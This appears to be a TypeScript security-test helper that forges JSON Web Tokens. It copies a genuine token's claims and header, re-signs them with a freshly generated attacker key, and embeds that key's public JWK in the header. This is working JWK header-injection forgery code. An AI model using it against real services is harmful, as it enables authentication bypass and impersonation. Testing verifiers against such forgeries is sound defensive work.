/** Reads the claims of an access token, and signs them with another key. */
import { exportJWK, generateKeyPair, SignJWT } from 'jose'

type Claims = Record<string, unknown>

const partOf = (token: string, at: number): Claims =>
  JSON.parse(Buffer.from(token.split('.')[at] ?? '', 'base64url').toString())

export const claimsOf = (token: string) => partOf(token, 1)

/** Signed with a key of the attacker, with the header of the genuine token and more. */
export async function signedByOther(token: string, more: Claims): Promise<string> {
  const { privateKey, publicKey } = await generateKeyPair('ES256', { extractable: true })
  const jwk = await exportJWK(publicKey)
  return new SignJWT(claimsOf(token))
    .setProtectedHeader({ ...partOf(token, 0), jwk, ...more, alg: 'ES256' })
    .sign(privateKey)
}
